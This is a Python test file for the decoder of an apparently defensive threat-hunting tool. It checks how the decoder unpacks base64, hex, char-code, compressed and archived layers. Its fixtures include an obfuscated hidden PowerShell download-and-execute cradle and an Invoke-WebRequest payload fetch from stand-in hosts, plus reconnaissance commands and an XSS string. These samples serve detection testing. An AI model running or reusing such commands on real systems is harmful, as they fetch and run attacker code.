"""unpack: every encoding, nesting, and the shape of the layer tree."""

from __future__ import annotations

import base64
import gzip
import io
import tarfile
import zipfile
import zlib

import pytest

from huntbook.analysis.decode import Layer, unpack

DEMO_ENCODED = (
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBh"
    "AGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AYwBvAG4AdABvAHMAbwAtAHMAeQBuAGMALgBuAGUAdAAvAHMALwB1AHAA"
    "ZAAuAHAAcwAxACcAKQA="
)
DEMO_COMMAND = f"powershell.exe -nop -w hidden -enc {DEMO_ENCODED}"
DEMO_DECODED = "IEX (New-Object Net.WebClient).DownloadString('http://contoso-sync.net/s/upd.ps1')"
SCRIPT = "Invoke-WebRequest -Uri http://203.0.113.66/a.ps1 -OutFile $env:TEMP\\a.ps1"


def only(root: Layer) -> Layer:
    layers = list(root.layers())
    assert len(layers) == 1, layers
    return layers[0]


def ps_encode(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


def test_powershell_encoded_command_from_the_demo_lake():
    root = unpack(DEMO_COMMAND)
    layer = only(root)
    assert layer.text == DEMO_DECODED
    assert (layer.encoding, layer.charset, layer.file_type) == ("base64", "utf-16le", "text")
    assert (layer.start, layer.end) == (DEMO_COMMAND.index("SQBF"), len(DEMO_COMMAND))
    assert root.content[layer.start : layer.end] == DEMO_ENCODED
    assert layer.source.startswith("SQBFAFgA") and "…" in layer.source and len(layer.source) == 80
    assert layer.data == DEMO_DECODED.encode("utf-16-le")
    assert (layer.depth, layer.path, layer.chain) == (1, (0,), ("base64",))
    assert not layer.truncated and layer.limit is None


def test_hashes_are_of_the_decoded_bytes():
    layer = only(unpack(DEMO_COMMAND))
    data = DEMO_DECODED.encode("utf-16-le")
    import hashlib

    assert layer.md5 == hashlib.md5(data).hexdigest()
    assert layer.sha1 == hashlib.sha1(data).hexdigest()
    assert layer.sha256 == hashlib.sha256(data).hexdigest()
    assert layer.size == len(data)


@pytest.mark.parametrize(
    ("encoded", "encoding"),
    [
        (base64.b64encode(SCRIPT.encode()).decode(), "base64"),
        (base64.b64encode(SCRIPT.encode()).decode().rstrip("="), "base64"),
        (base64.urlsafe_b64encode(SCRIPT.encode() + b"\xfb\xff\xbf").decode(), "base64url"),
        (SCRIPT.encode().hex(), "hex"),
        (SCRIPT.encode().hex().upper(), "hex"),
        ("".join(f"\\x{b:02x}" for b in SCRIPT.encode()), "hex"),
        (", ".join(f"0x{b:02X}" for b in SCRIPT.encode()), "hex"),
        ("".join(f"%{b:02x}" for b in SCRIPT.encode()), "url"),
        ("+".join(f"[char]{b}" for b in SCRIPT.encode()), "charcodes"),
        ("+".join(f"[Char]0x{b:x}" for b in SCRIPT.encode()), "charcodes"),
        ("[char[]](" + ",".join(str(b) for b in SCRIPT.encode()) + ")", "charcodes"),
    ],
)
def test_each_text_encoding(encoded, encoding):
    text = f"cmd.exe /c run '{encoded}' now"
    layer = only(unpack(text))
    assert layer.encoding == encoding
    assert SCRIPT in layer.text
    assert text[layer.start : layer.end] == encoded


def test_urlsafe_base64_with_dashes_and_underscores():
    data = b"\xfb\xff\xbf" + SCRIPT.encode()
    encoded = base64.urlsafe_b64encode(data).decode()
    assert encoded.startswith("-_-_")
    layer = only(unpack(f"https://contoso-sync.net/?q={encoded}"))
    assert (layer.encoding, layer.data) == ("base64url", data)


def test_url_encoding_keeps_plus_and_unknown_escapes():
    layer = only(unpack("GET /a?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E+x%zz"))
    assert layer.text == "/a?q=<script>alert(1)</script>+x"


def test_char_codes_in_other_spellings():
    text = "iex ([char]0x49 + [CHAR](69)+ [char] 88) ; -join [char[]]( 73 ,69,88 )"
    assert [layer.text for layer in unpack(text).layers()] == ["IEX", "IEX"]


def test_wrapped_base64_is_joined_across_lines():
    blob = base64.encodebytes(SCRIPT.encode() * 4).decode()  # 76-character lines
    assert blob.count("\n") > 2
    layer = only(unpack(f"Attachment:\n{blob}\n-- end"))
    assert layer.text == SCRIPT * 4


def test_wrapped_base64_with_a_stray_line_after_it_keeps_the_first_line():
    line = base64.b64encode(SCRIPT.encode()[:45]).decode()
    layer = only(unpack(f"{line}\nAnotherIdentifierNameHere and more"))
    assert layer.text == SCRIPT[:45]


@pytest.mark.parametrize(
    ("pack", "encoding"),
    [
        (gzip.compress, "gzip"),
        (zlib.compress, "zlib"),
        (lambda data: zlib.compress(data)[2:-4], "deflate"),
    ],
)
def test_compressed_streams(pack, encoding):
    root = unpack("blob: " + base64.b64encode(pack(SCRIPT.encode() * 10)).decode())
    outer, inner = root.layers()
    assert outer.charset == "binary" and inner.encoding == encoding
    assert inner.text == SCRIPT * 10
    assert (inner.start, inner.end) == (0, outer.size)
    assert inner.chain == ("base64", encoding)


def test_concatenated_gzip_members_are_one_stream():
    data = gzip.compress(b"first part; ") + gzip.compress(b"second part")
    inner = next(unpack(data).layers())
    assert inner.text == "first part; second part"


def zip_bytes(files: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def tar_bytes(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


@pytest.mark.parametrize("method", [zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED])
def test_zip_members(method):
    data = zip_bytes({"a.ps1": SCRIPT.encode(), "dir/b.txt": b"second file"}, method)
    root = unpack(base64.b64encode(data).decode())
    archive, first, second = root.layers()
    assert archive.file_type == "Zip archive"
    assert [(first.encoding, first.name, first.text), (second.name, second.text)] == [
        ("zip", "a.ps1", SCRIPT),
        ("dir/b.txt", "second file"),
    ]
    assert 0 == first.start < first.end <= second.start < second.end <= archive.size


def test_tar_members_with_their_spans():
    data = tar_bytes({"one.txt": b"first file", "two.ps1": SCRIPT.encode()})
    root = unpack(data)
    first, second = root.layers()
    assert (first.encoding, first.name, first.text, second.text) == ("tar", "one.txt", "first file", SCRIPT)
    assert data[first.end - len(first.data) : first.end] == b"first file"
    assert first.end <= second.start


def test_tar_inside_gzip_inside_base64():
    data = gzip.compress(tar_bytes({"x.ps1": SCRIPT.encode()}))
    root = unpack(f"echo {base64.b64encode(data).decode()} | base64 -d | tar xz")
    assert [layer.chain for layer in root.layers()] == [
        ("base64",),
        ("base64", "gzip"),
        ("base64", "gzip", "tar"),
    ]
    assert list(root.layers())[-1].text == SCRIPT


def test_nested_base64_gzip_base64_utf16_powershell():
    inner = f"powershell -NoP -enc {ps_encode(SCRIPT)}"
    outer = base64.b64encode(gzip.compress(inner.encode())).decode()
    root = unpack(f"cmd /c powershell -c \"$s=[IO.Compression.GzipStream]...FromBase64String('{outer}')\"")
    b64, gz, ps = root.layers()
    assert ps.chain == ("base64", "gzip", "base64")
    assert (gz.text, ps.text, ps.charset) == (inner, SCRIPT, "utf-16le")
    assert gz.content[ps.start : ps.end] == ps_encode(SCRIPT)
    assert (b64.path, gz.path, ps.path) == ((0,), (0, 0), (0, 0, 0))
    assert [layer.depth for layer in root.layers()] == [1, 2, 3]


def test_siblings_are_in_text_order_and_walked_depth_first():
    first = base64.b64encode(f"echo {ps_encode('one-two-three-four')}".encode()).decode()
    second = ps_encode("second payload here")
    root = unpack(f"{first} and {second}")
    assert [(layer.path, layer.text) for layer in root.layers()] == [
        ((0,), f"echo {ps_encode('one-two-three-four')}"),
        ((0, 0), "one-two-three-four"),
        ((1,), "second payload here"),
    ]


def test_bytes_input_is_unpacked_as_a_file():
    root = unpack(gzip.compress(SCRIPT.encode()))
    assert root.charset == "binary" and root.encoding == "input"
    assert only(root).text == SCRIPT
    assert unpack(bytearray(b"abc")).data == b"abc"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -ExecutionPolicy Bypass",
        "/usr/lib/x86_64-linux-gnu/libexample.so.1 --time-ticks-at-unix-epoch=-1731312000000000",
        "SignaturesUpdateService LocalSystemNetworkRestricted DoScheduledTelemetryRun",
        "sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "md5=d41d8cd98f00b204e9800998ecf8427e sha1=da39a3ee5e6b4b0d3255bfef95601890afd80709",
        "{4b8e6a52-1d7c-4f1e-9e0b-6a4bd0c2f7e3} 1234567890123456789012 deadbeefcafebabe0011",
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        "%%%%%%%%%%%%%%%%%%%%%%%%%% 100% 50% 25%",
    ],
)
def test_ordinary_text_decodes_to_nothing(text):
    assert list(unpack(text).layers()) == []


def test_text_escapes_control_and_invisible_characters():
    script = "echo hi\r\n\x1b[2J\u202eevil\u200b\tend\nok"
    layer = only(unpack(base64.b64encode(script.encode()).decode()))
    assert layer.text == "echo hi\\x0d\n\\x1b[2J\\u202eevil\\u200b\tend\nok"
    root = unpack("text with \x00 and \ud800 in it")
    assert root.text == "text with \\x00 and \\ud800 in it"


def test_binary_layer_text_escapes_bytes():
    data = b"MZ\x90\x00" + bytes(range(256))
    layer = only(unpack(base64.b64encode(data).decode()))
    assert layer.file_type == "PE executable"
    assert layer.text.startswith("MZ\\x90\\x00\\x00\\x01") and layer.text.isascii()


def test_repr_draws_the_tree():
    inner = f"powershell -NoP -enc {ps_encode('whoami /all')}"
    text = f"run {base64.b64encode(inner.encode()).decode()} then {ps_encode('net user /domain')}"
    assert repr(unpack(text)) == "\n".join(
        [
            "input, 126 chars, 3 decoded layers: "
            "run cG93ZXJzaGVsbCAtTm9QIC1lbmMgZHdCb0FHOEFZ…G8AbQBhAGkAbgA=",
            "├── base64 [4:76]: 53 bytes, text (utf-8): "
            "powershell -NoP -enc dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
            "│   └── base64 [21:53]: 22 bytes, text (utf-16le): whoami /all",
            "└── base64 [82:126]: 32 bytes, text (utf-16le): net user /domain",
        ]
    )


def test_repr_of_a_gzip_layer_shows_its_bytes_escaped():
    outer, _ = unpack(base64.b64encode(gzip.compress(SCRIPT.encode())).decode()).layers()
    assert repr(outer).startswith("base64 [0:") and ", gzip: \\x1f\\x8b\\x08" in repr(outer)
    line = repr(outer).splitlines()[1]
    assert line.startswith(f"└── gzip [0:{outer.size}]: 73 bytes, text (utf-8): Invoke")


def test_repr_lists_a_bounded_number_of_layers():
    text = " ".join(ps_encode(f"payload number {i}") for i in range(40))
    lines = repr(unpack(text)).splitlines()
    assert len(lines) == 1 + 24 + 1
    assert lines[-1] == "… 16 more layers"


def test_rich_renders_the_tree_without_markup():
    from rich.console import Console

    console = Console(file=io.StringIO(), width=200, color_system=None)
    console.print(unpack(base64.b64encode(b"[bold]not markup[/bold] Write-Host x").decode()))
    output = console.file.getvalue()
    assert "[bold]not markup[/bold] Write-Host x" in output
    assert output.splitlines()[1].startswith("└── base64 [0:48]: 36 bytes, text (utf-8): [bold]")
